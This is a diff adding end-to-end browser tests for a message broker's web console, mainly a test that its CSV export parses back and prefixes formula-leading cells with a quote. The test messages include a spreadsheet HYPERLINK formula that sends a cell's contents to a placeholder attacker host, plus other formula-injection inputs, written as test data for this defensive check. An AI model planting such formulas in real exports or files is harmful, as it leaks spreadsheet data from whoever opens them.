@@ -3,13 +3,14 @@
  * against real brokers: the overview, a topic page showing a message just produced, the live tail
  * receiving a new message, a group page whose lag is log end minus committed and an offset reset that
  * moves it, and the sign-in flow on a broker with authentication on. A topic or group page whose poll
- * fails (request interception) keeps what it shows and says it is stale. On every page: no console
+ * fails (request interception) keeps what it shows and says it is stale; the CSV export parses back
+ * and has no cell a spreadsheet would run as a formula. On every page: no console
  * error, no uncaught exception, no failed request but those failed on purpose. Screenshots go to
  * .test-results/screenshots/.
  */
 import fs from 'node:fs';
 import path from 'node:path';
-import puppeteer, { type Browser, type Page } from 'puppeteer-core';
+import puppeteer, { type Browser, type BrowserContext, type Page } from 'puppeteer-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { Consumer } from 'tributary-client/consumer.js';
 import { BrokerProcess, ROOT } from '../helpers/launcher.js';
@@ -31,8 +32,8 @@ afterAll(async () => {
 });
 
 /** A page that records every console error, uncaught exception, failed request and 4xx/5xx response. */
-async function open(url: string, before?: (page: Page) => Promise<void>): Promise<{ page: Page; problems: string[]; done: (shot: string) => Promise<void> }> {
-  const page = await browser.newPage();
+async function open(url: string, before?: (page: Page) => Promise<void>, context?: BrowserContext): Promise<{ page: Page; problems: string[]; done: (shot: string) => Promise<void> }> {
+  const page = await (context ?? browser).newPage();
   await before?.(page);
   await page.setViewport({ width: 1280, height: 900 });
   const problems: string[] = [];
@@ -81,6 +82,32 @@ async function breakRequests(page: Page, hit: (method: string, url: URL) => bool
     else if (state.how === 'bad-gateway') void r.respond({ status: 502, contentType: 'text/html', body: '<html><body><h1>502 Bad Gateway</h1></body></html>' });
   });
   return state;
+}
+
+/** CSV as RFC 4180 reads it: quoted cells may hold commas, quotes ("") and line ends; rows end with \n. */
+function parseCsv(csv: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < csv.length; i++) {
+    const c = csv[i];
+    if (quoted && c === '"' && csv[i + 1] === '"') {
+      cell += '"';
+      i++;
+    } else if (c === '"') quoted = !quoted;
+    else if (quoted || (c !== ',' && c !== '\n')) cell += c;
+    else {
+      row.push(cell);
+      cell = '';
+      if (c === '\n') {
+        rows.push(row);
+        row = [];
+      }
+    }
+  }
+  expect(quoted || cell !== '' || row.length > 0).toBe(false);
+  return rows;
 }
 
 /** What `open` recorded, less what a failure made on purpose caused (the requests to `path`). */
@@ -181,6 +208,63 @@ describe('web console', () => {
       await done('topic-stale');
     }
     expect(unexpected(problems, poll)).toEqual([]);
+  });
+
+  it('the CSV export: cells a spreadsheet would run as formulas start with a quote, each value says its encoding, and it parses back', async () => {
+    await api(broker.healthPort, 'POST', '/topics', { name: 'web-csv', partitions: 1 });
+    const sent = [
+      { key: '=1+2', value: '=HYPERLINK("http://attacker.example/?x="&A1,"open")' },
+      { key: '@me', value: '+41 22', headers: { trace: '-1', plain: 'text' } },
+      { value: '-2' },
+      { value: '\tTAB' },
+      { value: '\rCR' },
+      { value: "'quoted already" },
+      { value: 'line one, "two"\nline three' },
+      // Bytes that are not UTF-8 (fb ef be): base64 "++++", which also starts with a formula character.
+      { value: Buffer.from([0xfb, 0xef, 0xbe]).toString('base64'), encoding: 'base64' },
+    ];
+    for (const m of sent) await api(broker.healthPort, 'POST', '/topics/web-csv/messages', { ...m, partition: 0 });
+    const stored = (await api(broker.healthPort, 'GET', '/topics/web-csv/messages?partition=0&offset=0')).messages;
+    expect(stored.map((m: { value: string }) => m.value).at(-1)).toBe('++++');
+    const dir = await tempDir('tributary-console-csv-');
+    const context = await browser.createBrowserContext({ downloadBehavior: { policy: 'allow', downloadPath: dir } });
+    const { page, problems, done } = await open(`${base}#/topics/web-csv`, undefined, context);
+    try {
+      await page.waitForSelector(`[data-test=messages] tr[data-offset="${stored.length - 1}"]`, { timeout: 15_000 });
+      const [button] = await page.$$('xpath/.//button[text()="Export CSV"]');
+      await button!.click();
+      const file = path.join(dir, 'web-csv.csv');
+      await until(() => fs.existsSync(file), 10_000, 'the downloaded CSV');
+      const rows = parseCsv(fs.readFileSync(file, 'utf8'));
+      expect(rows[0]).toEqual(['partition', 'offset', 'timestamp', 'key', 'keyEncoding', 'value', 'valueEncoding', 'headers']);
+      expect(rows.length).toBe(stored.length + 1);
+      // No cell starts with a character a spreadsheet reads as a formula.
+      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+      // One quote added to every cell that starts with one: removing it gives each message back.
+      const unguard = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);
+      const back = rows.slice(1).map((r) => r.map(unguard));
+      for (const [i, m] of stored.entries()) {
+        const [partition, offset, timestamp, key, keyEncoding, value, valueEncoding, headers] = back[i]!;
+        expect({ partition: Number(partition), offset: Number(offset), timestamp: Date.parse(timestamp!), value, valueEncoding, headers: JSON.parse(headers!) }).toEqual({
+          partition: m.partition,
+          offset: m.offset,
+          timestamp: m.timestamp,
+          value: m.value,
+          valueEncoding: m.valueEncoding,
+          headers: m.headers,
+        });
+        // A null key: empty key and encoding cells.
+        expect([key, keyEncoding]).toEqual(m.key === null ? ['', ''] : [m.key, m.keyEncoding]);
+      }
+      expect(back.map((r) => r[6])).toEqual([...Array(sent.length - 1).fill('utf8'), 'base64']);
+      expect(rows[1]![3]).toBe("'=1+2");
+      expect(rows[6]![5]).toBe("''quoted already");
+    } finally {
+      await done('csv-export');
+      await context.close();
+      fs.rmSync(dir, { recursive: true, force: true });
+    }
+    expect(problems).toEqual([]);
   });
 
   it('the live tail receives a message produced after it opened', async () => {
